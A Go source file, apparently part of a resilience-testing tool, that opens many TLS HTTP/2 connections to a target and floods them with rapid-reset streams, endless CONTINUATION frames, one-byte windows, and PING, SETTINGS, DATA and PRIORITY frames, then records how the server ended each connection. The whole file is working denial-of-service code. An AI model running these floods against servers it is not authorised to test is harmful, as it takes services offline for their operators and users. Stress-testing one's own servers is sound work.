package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"golang.org/x/sync/errgroup"
)

// http2Attacks returns floods of frames, each over some connections at a time.
func http2Attacks(o options, span time.Duration) []attack {
	frames := o.few(10_000)
	var all []attack
	for _, one := range []struct {
		name  string
		conns int
		flood func(*flooded) error
	}{
		{fmt.Sprintf("h2 rapid reset: %d requests taken back at once, 10 times", frames), 10, func(f *flooded) error {
			return f.repeat(frames, func(n int) error {
				if err := f.headers(uint32(2*n+1), true); err != nil {
					return err
				}
				return f.framer.WriteRSTStream(uint32(2*n+1), http2.ErrCodeCancel)
			})
		}},
		{"h2 CONTINUATION without end, 10 times", 10, func(f *flooded) error {
			if err := f.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.block("GET")}); err != nil {
				return err
			}
			more := f.field("x-more", strings.Repeat("a", 8<<10))
			return f.repeat(frames, func(int) error { return f.framer.WriteContinuation(1, false, more) })
		}},
		{fmt.Sprintf("h2 with windows of one byte, %d connections with 32 requests each", max(200, o.few(800))), max(200, o.few(800)), func(f *flooded) error {
			return f.repeat(32, func(n int) error { return f.headers(uint32(2*n+1), true) })
		}},
		{fmt.Sprintf("h2 PING flood: %d, 10 times, answers unread", 100_000), 10, func(f *flooded) error {
			return f.repeat(100_000, func(int) error { return f.framer.WritePing(false, [8]byte{1}) })
		}},
		{fmt.Sprintf("h2 SETTINGS flood: %d, 10 times, answers unread", 100_000), 10, func(f *flooded) error {
			return f.repeat(100_000, func(int) error { return f.framer.WriteSettings() })
		}},
		{fmt.Sprintf("h2 empty DATA: %d, 10 times", frames), 10, func(f *flooded) error {
			if err := f.headers(1, false); err != nil {
				return err
			}
			return f.repeat(frames, func(int) error { return f.framer.WriteData(1, false, nil) })
		}},
		{fmt.Sprintf("h2 PRIORITY flood: %d, 10 times", frames), 10, func(f *flooded) error {
			return f.repeat(frames, func(n int) error {
				return f.framer.WritePriority(uint32(2*n+1), http2.PriorityParam{Weight: 1})
			})
		}},
	} {
		all = append(all, attack{one.name, func(ctx context.Context, t *aim) (string, error) {
			return flood(ctx, t, one.conns, span, strings.Contains(one.name, "unread"), one.flood)
		}})
	}
	return all
}

// A flooded is one connection of HTTP/2.
type flooded struct {
	conn   *tls.Conn
	framer *http2.Framer
	block2 bytes.Buffer
	coder  *hpack.Encoder
	until  time.Time
}

// away is how a connection ended that was never secure.
const away = "turned away"

// flood makes connections of HTTP/2 with windows of a byte and floods each. It tells
// how they ended.
func flood(ctx context.Context, t *aim, conns int, span time.Duration, unread bool, do func(*flooded) error) (string, error) {
	var mu sync.Mutex
	ends := map[string]int{}
	var all errgroup.Group
	for n := range conns {
		all.Go(func() error {
			from, to := source(n, false)
			conn, err := t.secure(ctx, from, to, "h2")
			if err != nil {
				if !turnedAway(err) {
					return err
				}
				mu.Lock()
				defer mu.Unlock()
				ends[away]++ // it lost its place, or did not get a turn
				return nil
			}
			defer func() { _ = conn.Close() }() // it is closed already, or not wanted
			f := &flooded{conn: conn, framer: http2.NewFramer(conn, conn), until: time.Now().Add(span)}
			f.coder = hpack.NewEncoder(&f.block2)
			_ = conn.SetDeadline(f.until)
			_, err = conn.Write([]byte(http2.ClientPreface))
			if err == nil {
				err = f.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
			}
			said := make(chan string, 1)
			if !unread {
				go func() { said <- f.listen() }()
			}
			if err == nil {
				err = do(f)
			}
			if unread && err == nil { // the answers wait until nothing more goes in
				go func() { said <- f.listen() }()
			} else if unread {
				said <- ""
			}
			end := <-said
			switch {
			case end != "":
			case err != nil && ended(err) && time.Now().Before(f.until):
				end = "closed"
			case err != nil && !ended(err):
				return err
			default:
				end = "open to the end"
			}
			mu.Lock()
			defer mu.Unlock()
			ends[end]++
			return nil
		})
	}
	err := errors.Join(all.Wait(), enough("flooded", int64(conns-ends[away]), conns))
	var text []string
	for end, n := range ends {
		text = append(text, fmt.Sprintf("%d %s", n, end))
	}
	slices.Sort(text)
	return strings.Join(text, ", "), err
}

// listen reads until the connection ends, and returns how that was announced, ""
// if nothing was said and the time was over.
func (f *flooded) listen() string {
	reader := http2.NewFramer(nil, f.conn)
	end := ""
	for {
		frame, err := reader.ReadFrame()
		if err != nil {
			if end == "" && time.Now().Before(f.until) {
				end = "closed"
			}
			return end
		}
		if goaway, ok := frame.(*http2.GoAwayFrame); ok {
			end = "ended with " + goaway.ErrCode.String()
		}
	}
}

// repeat does something n times, or until it fails.
func (f *flooded) repeat(n int, do func(n int) error) error {
	for i := range n {
		if err := do(i); err != nil {
			return err
		}
	}
	return nil
}

// headers begins a request for the key.
func (f *flooded) headers(stream uint32, end bool) error {
	return f.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: f.block("GET"), EndHeaders: true, EndStream: end})
}

// block returns the fields of a request for the key.
func (f *flooded) block(method string) []byte {
	f.block2.Reset()
	for _, field := range [][2]string{{":method", method}, {":scheme", "https"}, {":authority", domain}, {":path", "/.well-known/appspecific/com.tesla.3p.public-key.pem"}} {
		_ = f.coder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}) // into memory
	}
	return slices.Clone(f.block2.Bytes())
}

// field returns one field.
func (f *flooded) field(name, value string) []byte {
	f.block2.Reset()
	_ = f.coder.WriteField(hpack.HeaderField{Name: name, Value: value, Sensitive: true}) // into memory
	return slices.Clone(f.block2.Bytes())
}
